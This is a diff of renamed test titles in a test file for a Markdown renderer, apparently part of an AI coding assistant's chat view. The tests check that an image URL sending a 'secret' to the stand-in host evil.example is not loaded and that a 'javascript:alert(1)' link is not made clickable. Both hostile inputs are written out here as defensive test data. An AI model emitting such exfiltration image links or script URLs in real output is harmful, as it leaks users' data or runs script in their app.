@@ -18,25 +18,25 @@ describe('Markdown', () => {
     expect(container.textContent).toContain('<script>')
   })
 
-  it('loads no image', () => {
+  it('does not load images', () => {
     const { container } = render(<Markdown text="![secret](https://evil.example/?q=secret)" streaming={false} />)
     expect(container.querySelector('img')).toBeNull()
     expect(container.textContent).toContain('evil.example, not loaded')
   })
 
-  it('opens a web link through main, and only that', () => {
+  it('opens only web links, through main', () => {
     render(<Markdown text="[docs](https://example.org/a) [bad](javascript:alert(1))" streaming={false} />)
     fireEvent.click(screen.getByText('docs'))
     expect(main.asked).toEqual([{ method: 'app.openExternal', params: { url: 'https://example.org/a' } }])
     expect(screen.getByText('bad').closest('a, button')).toBeNull()
   })
 
-  it('makes a path a button that opens the file', () => {
+  it('renders a path as a button that opens the file', () => {
     render(<Markdown text="[here](src/a.ts:3)" streaming={false} />)
     expect(screen.getByRole('button', { name: 'here' }).getAttribute('title')).toBe('Open src/a.ts')
   })
 
-  it('shows code that is still arriving, and the same code when it is whole', () => {
+  it('shows streaming code, and the same code when complete', () => {
     const { container, rerender } = render(<Markdown text={'Look:\n\n```ts\nconst a = 1'} streaming />)
     expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
     rerender(<Markdown text={'Look:\n\n```ts\nconst a = 1\n```\n'} streaming={false} />)
@@ -44,7 +44,7 @@ describe('Markdown', () => {
     expect(screen.getByRole('button', { name: 'Insert at cursor' })).toBeTruthy()
   })
 
-  it('does not touch finished blocks when more text comes', () => {
+  it('does not render finished blocks again when more text arrives', () => {
     const { container, rerender } = render(<Markdown text={'First.\n\nSecond'} streaming />)
     const first = container.querySelector('p')
     rerender(<Markdown text={'First.\n\nSecond goes on.\n\nThird'} streaming />)
